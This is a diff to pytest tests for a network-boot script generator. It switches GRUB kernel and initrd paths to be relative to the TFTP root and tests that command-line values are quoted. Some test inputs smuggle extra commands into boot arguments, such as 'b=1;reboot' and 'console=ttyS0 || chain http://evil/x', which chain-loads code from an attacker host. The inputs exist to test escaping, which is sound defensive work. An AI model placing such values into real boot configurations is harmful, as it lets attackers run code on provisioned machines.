@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from appliance.bootscripts import BootScriptError, BootScripts, grub_root, grub_word
+from appliance.bootscripts import BootScriptError, BootScripts, grub_word
 from appliance.config import Config
 from appliance.model import BootSpec, Firmware
 
@@ -79,8 +79,9 @@ def test_pxelinux(scripts):
 
 def test_grub(scripts):
     out = lines(scripts.grub(install_spec(Firmware.EFI_X64), BASE))
-    assert f"linux (http,10.0.0.1)/distro/deb12/kernel {CMDLINE}" in out
-    assert "initrd (http,10.0.0.1)/distro/deb12/initrd" in out
+    # from GRUB's $root: the TFTP server it came from (signed GRUB has no http)
+    assert f"linux /distro/deb12/kernel {CMDLINE}" in out
+    assert "initrd /distro/deb12/initrd" in out
     assert out.index("boot") < len(out) - 1 and out[-1] == "exit"
     local = lines(scripts.grub(local_spec(Firmware.EFI_X64), BASE))
     assert local[-1] == "exit" and not any(ln.startswith("linux") for ln in local)
@@ -90,8 +91,6 @@ def test_grub_quotes_what_grub_would_interpret(scripts):
     out = scripts.grub(install_spec(Firmware.EFI_X64, cmdline="a=$x b=1;reboot c='q'"), BASE)
     assert "'a=$x' 'b=1;reboot' 'c='\\''q'\\'''" in out
     assert grub_word("ok=1,2:/x") == "ok=1,2:/x"
-    assert grub_root("http://10.0.0.1:8080") == "(http,10.0.0.1:8080)"
-    assert grub_root("http://10.0.0.1:80") == "(http,10.0.0.1)"
 
 
 @pytest.mark.parametrize("cmdline", ["console=ttyS0 || chain http://evil/x",
